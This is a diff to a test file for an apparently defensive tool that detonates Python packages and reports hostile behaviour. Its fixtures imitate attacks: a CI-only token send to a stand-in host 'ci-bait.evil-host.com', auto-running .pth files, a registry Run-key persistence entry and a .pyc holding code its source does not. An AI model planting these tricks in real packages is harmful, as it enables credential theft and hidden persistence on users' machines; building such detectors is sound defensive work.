@@ -4,8 +4,11 @@ The stand-ins are harmless. ACT reads a decoy key and asks for a name that tells
 was. Many kinds share a package, so that one run shows them all, and each has a harmless relative.
 """
 
+import marshal
+import sys
 import zipfile
 from collections.abc import Iterator
+from importlib.util import MAGIC_NUMBER, source_hash
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -101,6 +104,50 @@ KINDS: dict[str, tuple[dict[str, str], str]] = {
         {"in_ci.py": acting("ci", "import os\nif os.getenv('GITHUB_ACTIONS'):\n    act()\n")},
         "import as ci, later",
     ),
+    "ci-bait": (
+        {
+            "in_ci_bait.py": acting(
+                "ci-bait",
+                "import os, urllib.request\nif os.getenv('GITHUB_ACTIONS') == 'true':\n"
+                "    act()\n    data = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN'].encode()\n"
+                "    urllib.request.urlopen('https://ci-bait.evil-host.com/', data)\n",
+            )
+        },
+        "import as ci, later",
+    ),
+    "pth-windows": (
+        {
+            "on_windows.pth": "import os, sys; os.name == 'nt' and"
+            f" exec({acting('pth-windows')!r})\n"
+        },
+        "import as windows",
+    ),
+    "pth-macos": (
+        {
+            "on_macos.pth": "import platform; platform.system() == 'Darwin' and"
+            f" exec({acting('pth-macos')!r})\n"
+        },
+        "import as macos",
+    ),
+    "pth-ci": (
+        {"in_ci.pth": f"import os; os.getenv('RUNNER_OS') and exec({acting('pth-ci')!r})\n"},
+        "import as ci, later",
+    ),
+    "registry": (
+        {
+            "on_registry.py": acting(
+                "registry",
+                "import sys\nif sys.platform == 'win32':\n    import winreg\n"
+                "    run = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+                "    with winreg.OpenKey(\n"
+                "        winreg.HKEY_CURRENT_USER, run, 0, winreg.KEY_SET_VALUE\n"
+                "    ) as key:\n"
+                "        winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, 'evil.exe')\n"
+                "    act()\n",
+            )
+        },
+        "import as windows",
+    ),
     "date": (
         {
             "later_on.py": acting(
@@ -144,6 +191,77 @@ KINDS: dict[str, tuple[dict[str, str], str]] = {
         },
         "call",
     ),
+    "lazy": ({"lazy.py": acting("lazy", "def __getattr__(name):\n    act()\n")}, "call"),
+    "subclass": (
+        {
+            "based.py": acting(
+                "subclass",
+                "class Base:\n    def __init_subclass__(cls, **more):\n        act()\n",
+            )
+        },
+        "call",
+    ),
+    "metaclass": (
+        {
+            "meta.py": acting(
+                "metaclass",
+                "class Meta(type):\n    def __new__(cls, name, bases, space):\n"
+                "        act()\n        return super().__new__(cls, name, bases, space)\n",
+            )
+        },
+        "call",
+    ),
+    "manager": (
+        {
+            "managed.py": acting(
+                "manager",
+                "import contextlib\n@contextlib.contextmanager\ndef session(url):\n"
+                "    act()\n    yield\n",
+            )
+        },
+        "call",
+    ),
+    "special": (
+        {"entered.py": acting("special", "class S:\n    def __enter__(self):\n        act()\n")},
+        "call",
+    ),
+    "cached": (
+        {
+            "cached.py": acting(
+                "cached",
+                "import functools\nclass C:\n    @functools.cached_property\n"
+                "    def token(self):\n        act()\n",
+            )
+        },
+        "call",
+    ),
+    "partial": (
+        {
+            "partly.py": acting(
+                "partial",
+                "import functools\ndef _send(what, how):\n    act()\n"
+                "send = functools.partial(_send, 'all')\n",
+            )
+        },
+        "call",
+    ),
+    "async": (
+        {
+            "awaited.py": acting(
+                "async",
+                "class Client:\n    async def __aenter__(self):\n        act()\n"
+                "    async def __aexit__(self, *error):\n        pass\n",
+            )
+        },
+        "call",
+    ),
+    "pip": (
+        {
+            "on_pip.pth": "import os, sys; os.path.basename(sys.orig_argv[-2]) == 'pip' and"
+            f" exec({acting('pip')!r})\n"
+        },
+        "start",
+    ),
     "main": ({"pack/__main__.py": acting("main")}, "execute python -m pack"),
     "script": (
         {"acts_all-1.0.data/scripts/act-now": "#!python\n" + acting("script")},
@@ -167,6 +285,9 @@ CALM = {
     "IS_WINDOWS = os.name == 'nt'\n"
     "if IS_WINDOWS:\n    import ctypes, winreg\n    ctypes.windll.kernel32.GetStdHandle(-11)\n"
     "if platform.system() == 'Darwin':\n    FOLDER = '~/Library'\n"
+    "if IS_WINDOWS:\n"
+    "    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Calm') as key:\n"
+    "        winreg.SetValueEx(key, 'Theme', 0, winreg.REG_SZ, 'dark')\n"
     "IN_CI = bool(os.environ.get('CI'))\n"
     "YEAR = datetime.date.today().year\n"
     "lock = threading.Lock()\n",
@@ -181,6 +302,8 @@ CALM = {
     "    def get(self, path: str) -> str:\n        return path + self.token\n"
     "    def __enter__(self): return self\n"
     "    def __exit__(self, *error): return None\n"
+    "    def __init_subclass__(cls): cls.kind = 'client'\n"
+    "    def __len__(self): return len(self.token)\n"
     "atexit.register(lambda: None)\n",
     "calm/tests/test_tools.py": "from calm.tools import fetch\nassert fetch('a') == 'A'\n",
     "calm_space/part/__init__.py": "NAME = 'part'\n",
@@ -189,6 +312,13 @@ CALM = {
     "calm-1.0.dist-info/entry_points.txt": "[console_scripts]\ncalm = calm.tools:main\n"
     "[gui_scripts]\ncalm-window = calm.tools:main\n[pytest11]\ncalm = calm.plug\n",
 }
+
+
+def compiled(kind: str, source: str) -> bytes:
+    """What stands in __pycache__ of a source that is never looked at again."""
+    code = compile(acting(kind), "compiled.py", "exec")
+    flags = (1).to_bytes(4, "little")  # a hash of the source, which is not compared
+    return MAGIC_NUMBER + flags + source_hash(source.encode()) + marshal.dumps(code)
 
 
 def acts(report: Report) -> dict[str, Where]:
@@ -218,7 +348,10 @@ def python_version(program: Snakehook) -> str:
 
 def serve_acts(index: Index, version: str) -> None:
     """A package with all of KINDS."""
-    files = {"acts_all-1.0.dist-info/entry_points.txt": ENTRY_POINTS}
+    files: dict[str, str | bytes] = {"acts_all-1.0.dist-info/entry_points.txt": ENTRY_POINTS}
+    files["compiled.py"] = "x = 1\n"
+    cached = f"__pycache__/compiled.{sys.implementation.cache_tag}.pyc"
+    files[cached] = compiled("compiled", "x = 1\n")
     for kind, _ in KINDS.values():
         files |= {path.replace("{version}", version): text for path, text in kind.items()}
     index.add_wheel("acts-all", "1.0", files)
@@ -250,21 +383,41 @@ def test_the_act_shows(whole_report: Report, kind: str) -> None:
     assert any(title.startswith(wanted) for title in titles), f"{kind} showed in {titles}"
 
 
+def test_what_comes_compiled_is_run_as_it_is(whole_report: Report) -> None:
+    if f"python{sys.version_info.major}.{sys.version_info.minor}" not in str(whole_report["code"]):
+        pytest.skip("the jail has another Python than the tests")
+    assert "import" in {phase for phase, _ in acts(whole_report)["compiled"]}
+
+
 def test_what_reads_the_key_is_high_in_each_phase(whole_report: Report) -> None:
     assert whole_report["verdict"] == "high"
     read = {item["phase"] for item in whole_report["findings"] if item["rule"] == "secret.read"}
     assert {"start", "import", "call", "execute"} <= read
 
 
+def test_what_only_a_ci_machine_has_is_seen_to_leave(whole_report: Report) -> None:
+    sent = [item for item in whole_report["findings"] if item["rule"] == "secret.sent"]
+    assert {(item["severity"], item["trigger"]) for item in sent} == {("high", "as ci, later")}
+    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN to https://ci-bait.evil-host.com" in sent[0]["title"]
+
+
+def test_what_starts_with_windows_is_persistence(whole_report: Report) -> None:
+    written = [item for item in whole_report["findings"] if item["rule"] == "persistence.write"]
+    (item,) = [item for item in written if "registry" in item["title"]]
+    assert (item["severity"], item["trigger"]) == ("high", "as windows")
+    assert "CurrentVersion\\Run\\Updater" in item["title"]
+    assert item["at"].endswith("on_registry.py:18")
+
+
 def test_a_condition_is_told_with_its_line(whole_report: Report) -> None:
-    gates = {
-        item["title"].partition("(")[2].partition(")")[0]: item
-        for item in whole_report["findings"]
-        if item["rule"] == "code.gated"
+    gates = [item for item in whole_report["findings"] if item["rule"] == "code.gated"]
+    assert {item["severity"] for item in gates} == {"info"}
+    told = {
+        (item["title"].partition("(")[2].partition(")")[0], item["at"].rpartition("/")[2])
+        for item in gates
     }
-    assert {"system", "CI", "date"} <= set(gates)
-    assert {item["severity"] for item in gates.values()} == {"info"}
-    assert gates["CI"]["at"].endswith("in_ci.py:12")
+    assert {("CI", "in_ci.py:12"), ("system", "on_windows.py:12")} <= told
+    assert {kind for kind, _ in told} >= {"system", "CI", "date"}
 
 
 def test_a_long_sleep_is_skipped_and_told(whole_report: Report) -> None:
@@ -287,6 +440,9 @@ def test_the_harmless_relatives_are_clean(triage: Triage, index: Index) -> None:
     code, report, _ = triage("calm", "--mode", "detonate")
     assert findings(report, "high") == findings(report, "medium") == []
     assert (code, report["outcome"], report["verdict"]) == (0, "ok", "clean")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "RECORD" not in notes
+    assert "other files" not in notes
     titles = {(phase["name"], phase["trigger"]) for phase in report["phases"]}
     assert {
         ("import", "calm"),
@@ -341,6 +497,38 @@ def test_a_folder_of_metadata_may_be_spelled_otherwise(triage: Triage, index: In
     index.add_file("odd-name", name, renamed.getvalue())
     _, report, _ = triage("odd-name", "--mode", "import")
     assert acts(report)["hyphen"]
+
+
+def test_a_release_has_two_faces(triage: Triage, index: Index) -> None:
+    """pip takes the wheel. What else there is is named, and `artifact` chooses it."""
+    info = "two_faced-1.0.dist-info"
+    record = f"two_faced.py,,\nabsent.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
+    index.add_wheel("two-faced", "1.0", {"two_faced.py": "", f"{info}/RECORD": record})
+    index.add_backend_sdist("two-faced", "1.0", acting("sdist"), {"two_faced.py": ""})
+    _, report, _ = triage("two-faced")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "not looked at (artifact chooses): two_faced-1.0.tar.gz" in notes
+    assert "RECORD lists files that are not there" in notes and "/absent.py" in notes
+    assert (acts(report), report["verdict"]) == ({}, "clean")
+    _, report, _ = triage("two-faced", "--mode", "detonate", "--artifact", "sdist")
+    assert ("install", None) in acts(report)["sdist"]
+    assert report["verdict"] == "high"
+    notes = " ".join(report["coverage"]["notes"])
+    assert "not looked at (artifact chooses): two_faced-1.0-py3-none-any.whl" in notes
+
+
+def test_what_failed_for_want_of_another_has_a_second_try(triage: Triage, index: Index) -> None:
+    """What cannot be had keeps nobody from what can."""
+    source = "try:\n    import other_lib\nexcept ImportError:\n    pass\nimport helper_lib\n"
+    index.add_wheel("asks", "1.0", {"asks.py": source})
+    index.add_wheel("helper-lib", "2.0", {"helper_lib.py": "x = 1\n"})
+    index.add_wheel("other-lib", "2.0", {"other_lib.py": ""}, requires=["nobody-has-it"])
+    _, report, _ = triage("asks", "--mode", "import")
+    tries = [phase["outcome"] for phase in report["phases"] if phase["trigger"] == "asks"]
+    assert (tries, report["verdict"]) == (["failed", "ok"], "clean")
+    notes = " ".join(report["coverage"]["notes"])
+    assert "installed later: helper-lib" in notes
+    assert "not there: other_lib" in notes
 
 
 def test_what_is_missed_is_installed_and_asked_again(triage: Triage, index: Index) -> None:
